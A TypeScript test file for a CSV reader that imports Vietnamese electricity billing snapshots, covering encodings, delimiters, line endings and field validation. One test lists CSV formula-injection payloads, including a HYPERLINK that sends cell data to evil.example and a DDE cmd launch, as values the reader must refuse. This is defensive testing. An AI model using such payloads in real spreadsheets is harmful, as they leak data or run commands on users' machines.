import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import {
  detectDelimiter,
  formatProblem,
  inspectFile,
  readSnapshot,
  type Problem,
  type SnapshotEncoding,
  type SnapshotRow,
} from '../../electron/cmis/read-snapshot.ts';
import { parseProfile, resolveHeader } from '../../electron/cmis/profiles.ts';
import { AppError } from '../../electron/core/errors.ts';
import { cpuMs } from '../helpers/cpu-time.ts';
import { tempDir } from '../helpers/temp-dir.ts';

import { corpus } from './helpers.ts';

function readAll(path: string, encoding?: SnapshotEncoding, profileJson?: unknown) {
  const rows: SnapshotRow[] = [];
  const header = readSnapshot(
    path,
    { encoding: encoding ?? inspectFile(path).detected ?? 'utf8', profile: profileJson === undefined ? undefined : parseProfile(profileJson), keepRaw: true },
    (row) => rows.push(row),
  );
  return { header, rows };
}

function problemsOf(path: string): Problem[] {
  return readAll(path).rows.flatMap((r) => (r.ok ? [] : r.problems));
}

/** A small file from lines, as bytes of the given encoding. */
function writeCsv(lines: string[], encode: (text: string) => Buffer = (t) => Buffer.from(t, 'utf8')): string {
  const path = join(tempDir(), 'snapshot.csv');
  writeFileSync(path, encode(lines.join('\r\n') + '\r\n'));
  return path;
}

const HEADER = 'MA_DVIQLY,MA_KHANG,TEN_KHANG,DCHI_KHANG,ID_HDON,KY,THANG,NAM,SO_TIEN,TIEN_GTGT,TONG_TIEN';

test('every good encoding and delimiter variant reads to the same rows as the UTF-8 original', () => {
  const base = readAll(corpus('good-utf8.csv')).rows.map((r) => (r.ok ? { ...r, raw: null } : r));
  assert.equal(base.length, 14);
  assert.ok(base.every((r) => r.ok));
  const variants: [string, SnapshotEncoding, string][] = [
    ['good-utf8-bom.csv', 'utf8', ','],
    ['good-utf16le-bom.txt', 'utf16le', '\t'],
    ['good-windows1258.csv', 'windows1258', ','],
    ['good-semicolon.csv', 'utf8', ';'],
    ['good-tab.tsv', 'utf8', '\t'],
  ];
  for (const [file, encoding, delimiter] of variants) {
    assert.equal(inspectFile(corpus(file)).detected, encoding, file);
    const { header, rows } = readAll(corpus(file));
    assert.equal(header.delimiter, delimiter, file);
    assert.deepEqual(rows.map((r) => (r.ok ? { ...r, raw: null } : r)), base, file);
  }
});

test('Windows-1258 is decoded and NFC-normalised (its tone marks are combining characters)', () => {
  const { rows } = readAll(corpus('good-windows1258.csv'));
  const first = rows[0];
  assert.ok(first?.ok);
  assert.equal(first.customer.ten_khang, 'Nguyễn Thị Đào');
  assert.equal(first.customer.ten_khang, first.customer.ten_khang.normalize('NFC'));
  assert.equal(first.customer.dchi_khang, 'Số 12 đường Lê Duẩn, phường Tân Lợi, TP. Buôn Ma Thuột');
});

test('the --encoding override wins over detection', () => {
  const path = corpus('good-windows1258.csv');
  assert.equal(inspectFile(path).detected, 'windows1258');
  const right = readAll(path, 'windows1258').rows[0];
  assert.ok(right?.ok);
  assert.equal(right.customer.ten_khang, 'Nguyễn Thị Đào');
  // Forced to UTF-8, the bytes do not decode: the rows are refused, never imported as mojibake.
  const forced = readAll(path, 'utf8').rows[0];
  assert.equal(forced?.ok, false);
  assert.match(forced.ok ? '' : formatProblem(forced.problems[0]!), /cột TEN_KHANG, .*không giải mã được/);
});

test('delimiter detection counts only delimiters outside quotes', () => {
  assert.equal(detectDelimiter('A,B,C'), ',');
  assert.equal(detectDelimiter('A;B;C'), ';');
  assert.equal(detectDelimiter('A\tB\tC'), '\t');
  assert.equal(detectDelimiter('"A,B,C,D";E;F'), ';');
});

test('quoted fields keep delimiters, doubled quotes and line breaks; line numbers are where a record starts', () => {
  const { header, rows } = readAll(corpus('good-quoted-multiline.csv'));
  assert.deepEqual(header.unknownColumns, ['GHI_CHU'], 'the notes with line breaks are in a column the contract does not store');
  assert.deepEqual(rows.map((r) => r.line), [2, 4, 5]);
  const [a, b, c] = rows;
  assert.ok(a?.ok && b?.ok && c?.ok);
  assert.equal(a.customer.ten_khang, 'Nguyễn Văn "Tư" An');
  assert.equal(a.customer.dchi_khang, 'Số 7, hẻm 3, đường Phan Bội Châu, phường Thành Công, TP. Buôn Ma Thuột');
  assert.match(a.raw ?? '', /"Nhà trong hẻm\ncạnh tiệm tạp hóa"$/);
  assert.equal(b.customer.dchi_khang, 'Thôn 2; xã Ea Kao, TP. Buôn Ma Thuột');
  assert.equal(c.customer.dthoai_sms, '02623850123');
});

test('amounts with thousands separators are read as whole đồng', () => {
  const { rows } = readAll(corpus('good-quoted-multiline.csv'));
  const bills = rows.map((r) => (r.ok ? r.bill : null));
  assert.deepEqual(
    bills.map((b) => [b?.so_tien, b?.tien_gtgt, b?.tong_tien]),
    [
      [1234567, 98765, 1333332],
      [1000000, 80000, 1080000],
      [120000, 9600, 129600],
    ],
  );
});

test('header names are trimmed and case-insensitive; aliases map; unknown columns are listed', () => {
  const { header, rows } = readAll(corpus('good-aliases.csv'));
  assert.deepEqual(header.unknownColumns, ['GHI_CHU']);
  const [a, b] = rows;
  assert.ok(a?.ok && b?.ok);
  assert.equal(a.customer.ma_khang, 'PC12AA0030001', 'MA_KHANG is upper-cased');
  assert.equal(a.customer.dchi_khang, 'Thôn 4, xã Hòa Khánh, TP. Buôn Ma Thuột', 'DIA_CHI -> DCHI_KHANG');
  assert.equal(a.customer.dthoai_sms, '0911222333', 'DTHOAI_KHANG -> DTHOAI_SMS');
  assert.deepEqual([a.bill?.so_tien, a.bill?.tien_gtgt, a.bill?.loai_hdon], [200000, 16000, 'TD'], 'TIEN_NO, THUE_NO, td');
  assert.equal(b.bill?.loai_hdon, 'TD', 'LOAI_HDON defaults to TD');
});

test('a mapping profile renames columns; without it the same file is refused', () => {
  const profile = JSON.parse(readFileSync(corpus('profile-site.json'), 'utf8')) as unknown;
  const { rows } = readAll(corpus('good-profile.csv'), undefined, profile);
  assert.equal(rows.length, 2);
  const first = rows[0];
  assert.ok(first?.ok);
  assert.equal(first.customer.ten_khang, 'Ngô Thị Mai');
  assert.equal(first.bill?.tong_tien, 162000);
  assert.throws(() => readAll(corpus('good-profile.csv')), (e: unknown) => e instanceof AppError && e.code === 'SNAPSHOT_HEADER_INVALID');
  assert.throws(() => parseProfile({ columns: { X: 'NOT_A_COLUMN' } }), (e: unknown) => e instanceof AppError && e.code === 'PROFILE_INVALID');
});


test('a missing required column or a column given twice refuses the header', () => {
  assert.throws(
    () => readAll(corpus('bad-missing-column.csv')),
    (e: unknown) => e instanceof AppError && e.code === 'SNAPSHOT_HEADER_INVALID' && /dòng 1, cột TEN_KHANG, giá trị "": thiếu cột bắt buộc/.test(e.message),
  );
  assert.deepEqual(resolveHeader(['MA_DVIQLY', 'MA_KHANG', 'TEN_KHANG', 'DCHI_KHANG', 'DIA_CHI']).problems, [
    { column: 'DIA_CHI', reason: 'cột DCHI_KHANG xuất hiện hai lần trong dòng tiêu đề' },
  ]);
});

test('each defect file gives exactly its problems, all of them, located by line and column', () => {
  const expect: Record<string, [number, string, string][]> = {
    'bad-amount-forms.csv': [
      [2, 'SO_TIEN', '12,5'], [2, 'TONG_TIEN', '12,5'], [3, 'SO_TIEN', '1.2.3'], [3, 'TONG_TIEN', '1.2.3'],
      [4, 'SO_TIEN', '-5'], [4, 'TONG_TIEN', '-5'], [5, 'SO_TIEN', 'abc'], [5, 'TONG_TIEN', 'abc'],
      [6, 'SO_TIEN', '0'], [7, 'SO_TIEN', ''], [7, 'TIEN_GTGT', ''], [7, 'TONG_TIEN', ''],
    ],
    'bad-tong-tien-mismatch.csv': [[2, 'TONG_TIEN', '216001']],
    'bad-period.csv': [[2, 'THANG', '13'], [3, 'KY', '4'], [4, 'NAM', '26x'], [5, 'KY', '']],
    'bad-ma-khang.csv': [[2, 'MA_KHANG', 'PC12AA005'], [3, 'MA_KHANG', 'PC12AA-0050052'], [4, 'MA_KHANG', '']],
    'bad-empty-name.csv': [[2, 'TEN_KHANG', ''], [3, 'DCHI_KHANG', '']],
    'bad-phone.csv': [[2, 'DTHOAI_SMS', '912345678'], [3, 'DTHOAI_SMS', '09123abc78']],
    'bad-date.csv': [[2, 'HAN_TTOAN', '31/02/2026'], [3, 'HAN_TTOAN', '2026-12-20']],
    'bad-unit-and-flags.csv': [[2, 'MA_DVIQLY', 'PC-12'], [3, 'TTHAI_CAT', '2'], [4, 'LOAI_HDON', 'XX'], [5, 'DIEN_TTHU', '-3']],
    'bad-field-count.csv': [[2, '*', '15'], [3, '*', '17']],
    'bad-amount-without-bill.csv': [[2, 'SO_TIEN', '200000'], [2, 'TIEN_GTGT', '16000'], [2, 'TONG_TIEN', '216000']],
  };
  for (const [file, wanted] of Object.entries(expect)) {
    assert.deepEqual(problemsOf(corpus(file)).map((p) => [p.line, p.column, p.value]), wanted, file);
  }
});

test('problems read as "dòng N, cột C, giá trị V: lý do"', () => {
  const [p] = problemsOf(corpus('bad-tong-tien-mismatch.csv'));
  assert.ok(p);
  assert.equal(formatProblem(p), 'dòng 2, cột TONG_TIEN, giá trị "216001": phải bằng SO_TIEN + TIEN_GTGT (200000 + 16000 = 216000)');
});

test('a row with an empty ID_HDON is a customer without debt; bill columns are then not required', () => {
  const { rows } = readAll(corpus('good-utf8.csv'));
  const noDebt = rows.find((r) => r.ok && r.customer.ma_khang === 'PC12AA0012348');
  assert.ok(noDebt?.ok);
  assert.equal(noDebt.bill, null);
});

test('optional columns: MA_THE is normalised, TTHAI_CAT defaults to 0, HAN_TTOAN and DIEN_TTHU may be empty', () => {
  const path = writeCsv([
    'MA_DVIQLY,MA_KHANG,TEN_KHANG,DCHI_KHANG,MA_THE,ID_HDON,KY,THANG,NAM,SO_TIEN,TIEN_GTGT,TONG_TIEN,HAN_TTOAN,DIEN_TTHU',
    'PC12AA, pc12aa0000009 ,  Lê Văn Tám ,Thôn 2,the 0001,9001,1,11,2026,100,8,108,1/2/2027,1.200',
  ]);
  const [row] = readAll(path).rows;
  assert.ok(row?.ok);
  assert.equal(row.customer.ma_khang, 'PC12AA0000009');
  assert.equal(row.customer.ten_khang, 'Lê Văn Tám');
  assert.equal(row.customer.ma_the, 'THE0001');
  assert.equal(row.customer.tthai_cat, 0);
  assert.equal(row.bill?.han_ttoan, '01/02/2027');
  assert.equal(row.bill?.dien_tthu, 1200);
});

test('records straddle the read chunks with any line ending; line numbers count breaks inside quotes', () => {
  const long = (i: number) => `Thôn ${i}, ` + 'x'.repeat(60_000);
  const endings = ['\r\n', '\n', '\r'];
  const rows = Array.from({ length: 40 }, (_, i) => `PC12AA,PC12AA${String(i).padStart(7, '0')},A,"${long(i)}",${i},1,11,2026,100,8,108`);
  const path = join(tempDir(), 'long.csv');
  writeFileSync(path, [HEADER, ...rows, 'PC12AA,PC12AA0000100,B,"Thôn 1\r\nxã Ea Tu",100,1,11,2026,100,8,108', 'PC12AA,PC12AA0000101,C,D,101,1,11,2026,100,8,108'].map((r, i) => r + endings[i % 3]).join(''));
  const read = readAll(path).rows;
  assert.deepEqual(read.map((r) => r.line), [...rows.map((_, i) => 2 + i), 42, 44]);
  assert.ok(read.slice(0, 40).every((r, i) => r.ok && r.customer.dchi_khang === long(i)));
  assert.deepEqual(read.slice(40).map((r) => r.ok), [false, true], 'a line break in an address is refused (contract section 1)');
});

test('UTF-8 detection holds when multi-byte letters straddle read chunks', () => {
  const long = 'ễ'.repeat(20_000); // 60 KB of 3-byte sequences per row: chunk edges fall inside letters
  const rows = Array.from({ length: 40 }, (_, i) => `PC12AA,PC12AA${String(i).padStart(7, '0')},A,"${long}",${i},1,11,2026,100,8,108`);
  const path = writeCsv([HEADER, ...rows]);
  assert.equal(inspectFile(path).detected, 'utf8');
  const read = readAll(path).rows;
  assert.equal(read.length, 40);
  assert.ok(read.every((r) => r.ok && r.customer.dchi_khang === long));
});

test('a CR-only file (no line feed to cut the text at) reads the same when multi-byte letters straddle read chunks; a BOM is dropped', () => {
  const long = 'Thôn ' + 'ễ'.repeat(20_000);
  const rows = Array.from({ length: 40 }, (_, i) => `PC12AA,PC12AA${String(i).padStart(7, '0')},A,"${long}",${i},1,11,2026,100,8,108`);
  const path = join(tempDir(), 'cr-only.csv');
  writeFileSync(path, '\uFEFF' + [HEADER, ...rows].join('\r') + '\r');
  const read = readAll(path).rows;
  assert.deepEqual(read.map((r) => r.line), rows.map((_, i) => 2 + i));
  assert.ok(read.every((r) => r.ok && r.customer.dchi_khang === long && r.customer.ma_dviqly === 'PC12AA'));
});

/** The message of an AppError thrown by fn, with its code. */
function refusal(fn: () => unknown): { code: string; message: string; details: unknown } {
  try {
    fn();
  } catch (error) {
    if (error instanceof AppError) return { code: error.code, message: error.message, details: error.details };
    throw error;
  }
  return { code: 'NOT_REFUSED', message: '', details: undefined };
}

test('[#6] one stray non-UTF-8 byte makes a damaged UTF-8 file, not Windows-1258: no encoding is guessed and its line is named', () => {
  const stray = inspectFile(corpus('bad-stray-byte.csv'));
  assert.equal(stray.detected, null);
  assert.equal(stray.notUtf8?.damagedUtf8, true);
  assert.deepEqual(stray.notUtf8?.problems.map((p) => [p.line, p.value]), [[7, '0x92']]);
  // The same damage in a CR-only file with a BOM: lines are still counted right, and a BOM is no excuse.
  const crOnly = join(tempDir(), 'cr.csv');
  writeFileSync(crOnly, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(readFileSync(corpus('bad-stray-byte.csv')).toString('latin1').replace(/\n/g, '\r'), 'latin1')]));
  assert.equal(inspectFile(crOnly).detected, null);
  assert.deepEqual(inspectFile(crOnly).notUtf8?.problems.map((p) => p.line), [7]);
  // Windows-1258 on positive evidence only: the genuine file still is...
  assert.equal(inspectFile(corpus('good-windows1258.csv')).detected, 'windows1258');
  // ...an ASCII file with two Windows-1252 quotes is neither (nothing in it is Vietnamese)...
  const quotes = writeCsv([HEADER, 'PC12AA,PC12AA0000001,O\u2019Brien,Nha \u201cA\u201d,1,1,11,2026,100,8,108'], (t) => iconv.encode(t, 'windows1252'));
  const facts = inspectFile(quotes);
  assert.equal(facts.detected, null);
  assert.equal(facts.notUtf8?.damagedUtf8, false);
  assert.deepEqual(facts.notUtf8?.problems.map((p) => [p.line, p.value]), [[2, '0x92 0x93 0x94']]);
  // ...and so is a Vietnamese file in another legacy encoding (TCVN3 bytes read as Windows-1258 are not Vietnamese letters).
  const tcvn = writeCsv([HEADER, 'PC12AA,PC12AA0000001,Ng\u00b7\u00ear,\u00b8\u00bb\u00ba\u00b9,1,1,11,2026,100,8,108'], (t) => Buffer.from(t, 'latin1'));
  assert.equal(inspectFile(tcvn).detected, null);
});

test('[#7] CR-only and mixed line endings read to the same rows as CRLF; blank lines are skipped and still counted', () => {
  const base = readAll(corpus('good-utf8.csv')).rows.map((r) => (r.ok ? { ...r, raw: null } : r));
  const cr = readAll(corpus('good-cr-only.csv'));
  assert.equal(cr.header.columns.length, 20);
  assert.deepEqual(cr.rows.map((r) => (r.ok ? { ...r, raw: null } : r)), base);
  // Every ending in one file, and blank lines (empty, CR alone, spaces) between the rows.
  const lines = readFileSync(corpus('good-utf8.csv'), 'utf8').split('\n').filter((l) => l !== '');
  const endings = ['\r\n', '\n', '\r'];
  const mixed = lines.map((l, i) => l + endings[i % 3]).join('');
  const withBlanks = mixed.replace(lines[3]!, `\r\n\n\r  \r\n${lines[3]!}`);
  const path = join(tempDir(), 'mixed.csv');
  writeFileSync(path, withBlanks);
  const { rows } = readAll(path);
  assert.deepEqual(rows.map((r) => (r.ok ? { ...r, raw: null, line: 0 } : r)), base.map((r) => ({ ...r, line: 0 })));
  assert.deepEqual(rows.map((r) => r.line), [2, 3, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19]);
  assert.equal(rows[2]?.raw, lines[3]);
});

test('[#9] a C0 control character in a field is refused with line and column (a line break only inside quotes)', () => {
  const problems = problemsOf(corpus('bad-control-char.csv'));
  assert.deepEqual(
    problems.map((p) => [p.line, p.column, p.value]),
    [
      [2, 'TEN_KHANG', 'Nguyễn\\x00Văn An'],
      [3, 'DCHI_KHANG', 'Thôn 2\\x0d\\x0axã Ea Tu'],
      [5, 'MA_SOGCS', 'AA\\x070001'],
      [6, 'TEN_KHANG', 'Phạm Thị\\x09Dung'],
    ],
  );
  assert.match(formatProblem(problems[0]!), /^dòng 2, cột TEN_KHANG, giá trị "Nguyễn\\x00Văn An": có ký tự điều khiển/);
});

test('[#20] a text field that begins with = + - or @ is refused with line and column: a spreadsheet would run it', () => {
  const problems = problemsOf(corpus('bad-formula.csv'));
  assert.deepEqual(
    problems.map((p) => [p.line, p.column, p.value]),
    [
      [2, 'TEN_KHANG', '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'],
      [3, 'DCHI_KHANG', "+cmd|' /C calc'!A0"],
      [4, 'TEN_KHANG', '@SUM(1+1)*cmd'],
      [5, 'MA_THE', '-2+3'],
      [6, 'DCHI_KHANG', '=1+1'],
      [7, 'SO_CTO', '=21000006'],
    ],
  );
  assert.match(formatProblem(problems[0]!), /bắt đầu bằng "="/);
});

test('[#10] a record longer than 65,536 characters is refused naming its line, whatever follows it', () => {
  const dir = tempDir();
  const huge = join(dir, 'huge.csv');
  writeFileSync(huge, [HEADER, 'PC12AA,PC12AA0000001,A,B,1,1,11,2026,100,8,108', `PC12AA,PC12AA0000002,${'x'.repeat(10 << 20)},B,2,1,11,2026,100,8,108`, ''].join('\r\n'));
  const big = refusal(() => readAll(huge));
  assert.equal(big.code, 'SNAPSHOT_RECORD_TOO_LARGE');
  assert.match(big.message, /dòng 3/i);
  // An opening quote never closed swallows the rest of the file into one record: the same refusal, at the quote's line.
  const open = join(dir, 'open-quote.csv');
  const row = (i: number) => `PC12AA,PC12AA${String(i).padStart(7, '0')},Tên,Địa chỉ,${i},1,11,2026,100,8,108`;
  writeFileSync(open, [HEADER, row(1), row(2).replace('Địa chỉ', '"Địa chỉ'), ...Array.from({ length: 5000 }, (_, i) => row(i + 3)), ''].join('\n'));
  const quote = refusal(() => readAll(open));
  assert.equal(quote.code, 'SNAPSHOT_RECORD_TOO_LARGE');
  assert.match(quote.message, /dòng 3/i);
  // Exactly at the bound is a record like any other.
  const edge = join(dir, 'edge.csv');
  const line = `PC12AA,PC12AA0000003,A,"${'y'.repeat(65_536 - 47)}",3,1,11,2026,100,8,108`;
  assert.equal(line.length, 65_536);
  writeFileSync(edge, [HEADER, line, ''].join('\n'));
  assert.equal(readAll(edge).rows[0]?.ok, true);
  writeFileSync(edge, [HEADER, line.replace('y', 'yy'), ''].join('\n'));
  assert.equal(refusal(() => readAll(edge)).code, 'SNAPSHOT_RECORD_TOO_LARGE');
});

test('[#10] a million blank lines are skipped without building records, and later rows keep their line numbers', () => {
  const path = join(tempDir(), 'blank.csv');
  writeFileSync(path, `${HEADER}\r\n${'\r\n'.repeat(1_000_000)}PC12AA,PC12AA0000001,A,B,1,1,11,2026,100,8,108\r\n${'\n'.repeat(1000)}`);
  const { value: { rows }, ms } = cpuMs(() => readAll(path));
  assert.deepEqual(rows.map((r) => [r.line, r.ok]), [[1_000_002, true]]);
  assert.ok(ms < 5000, `${Math.round(ms)} ms of CPU`);
});

test('[#11] an amount above 100.000.000.000 đồng is refused with line and column', () => {
  assert.deepEqual(
    problemsOf(corpus('bad-huge-amount.csv')).map((p) => [p.line, p.column, p.value]),
    [
      [2, 'SO_TIEN', '9007199254740000'],
      [2, 'TONG_TIEN', '9007199254740000'],
      [3, 'SO_TIEN', '100000000001'],
      [3, 'TONG_TIEN', '100000000001'],
      [4, 'TONG_TIEN', '107999999999'],
      [5, 'DIEN_TTHU', '100000000001'],
    ],
  );
  const [first] = problemsOf(corpus('bad-huge-amount.csv'));
  assert.match(formatProblem(first!), /vượt quá 100\.000\.000\.000 đồng/);
});

test('[#16] only regular files are read: a directory, or a file over 2 GB (sparse), is refused at once', () => {
  const dir = tempDir();
  assert.equal(refusal(() => inspectFile(dir)).code, 'SNAPSHOT_NOT_A_FILE');
  assert.equal(refusal(() => readAll(dir, 'utf8')).code, 'SNAPSHOT_NOT_A_FILE');
  const big = join(dir, 'big.csv');
  writeFileSync(big, HEADER + '\r\n');
  truncateSync(big, 2 * 1024 ** 3 + 1);
  const { ms } = cpuMs(() => {
    assert.equal(refusal(() => inspectFile(big)).code, 'SNAPSHOT_TOO_LARGE');
    assert.equal(refusal(() => readAll(big, 'utf8')).code, 'SNAPSHOT_TOO_LARGE');
  });
  assert.ok(ms < 1000, `${Math.round(ms)} ms of CPU: the 2 GB were not read`);
});

test('[#10] a problem keeps at most 200 characters of its value: ten thousand refused long records stay small', () => {
  const path = writeCsv([HEADER, `PC12AA,PC12AA0000001,=${'x'.repeat(60_000)},B,1,1,11,2026,100,8,108`]);
  const [problem] = problemsOf(path);
  assert.equal(problem?.column, 'TEN_KHANG');
  assert.equal(problem?.value, `=${'x'.repeat(199)}…`);
});
